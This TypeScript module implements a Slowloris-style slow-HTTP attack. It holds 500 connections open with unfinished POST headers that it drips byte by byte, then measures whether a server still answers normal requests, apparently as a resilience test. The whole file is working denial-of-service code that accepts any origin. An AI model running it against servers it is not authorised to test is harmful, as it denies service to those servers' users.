import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

const CONNECTIONS = 500
const REQUESTS = 20

export type Slow = { opened: number; answered: number; sent: number; slowest_ms: number }

/** Opens 500 connections that send one letter of a request per second and never finish, and makes another request meanwhile. */
export async function attackSlowly(origin: string, path: string, connections = CONNECTIONS): Promise<Slow> {
  const { hostname, port } = new URL(origin)
  const open: Socket[] = []
  for (let count = 0; count < connections; count++) {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.write(`POST ${path} HTTP/1.1\r\nHost: ${hostname}\r\nContent-Length: 1000000\r\nX-Slow: `)
    open.push(socket)
    if (count % 50 === 49) await pause(20)
  }
  const drip = setInterval(() => {
    for (const socket of open) if (!socket.destroyed) socket.write('a')
  }, 1000)
  await pause(1500)
  const times: number[] = []
  for (let count = 0; count < REQUESTS; count++) {
    const began = performance.now()
    const answered = await fetch(`${origin}${path}`, { signal: AbortSignal.timeout(3000) }).then(
      (answer) => answer.ok,
      () => false,
    )
    if (answered) times.push(performance.now() - began)
    await pause(50)
  }
  const opened = open.filter((socket) => !socket.destroyed).length
  clearInterval(drip)
  for (const socket of open) socket.destroy()
  return { opened, answered: times.length, sent: REQUESTS, slowest_ms: Math.round(Math.max(0, ...times)) }
}
